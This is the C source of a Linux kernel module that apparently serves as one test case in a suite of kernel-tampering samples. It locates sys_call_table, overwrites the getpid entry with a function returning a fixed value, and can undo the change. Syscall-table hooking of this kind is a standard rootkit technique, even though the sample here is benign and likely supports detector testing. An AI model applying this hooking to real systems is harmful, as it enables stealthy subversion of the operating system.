// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* The entry of getpid in sys_call_table leads to a function of the module. */
#include "attack.h"

#include <asm/unistd.h>

static unsigned long *entry;
static unsigned long original;

static asmlinkage long lies(const struct pt_regs *registers)
{
	return 424242;
}

static int attack(void)
{
	unsigned long ours = (unsigned long)lies;
	unsigned long table = symbol("sys_call_table");

	if (!table)
		return -ENOENT;
	entry = (unsigned long *)table + __NR_getpid;
	original = *entry;
	write_protected(entry, &ours, sizeof(ours));
	return 0;
}

static void undo(void)
{
	write_protected(entry, &original, sizeof(original));
}

ATTACK("an entry of sys_call_table replaced");
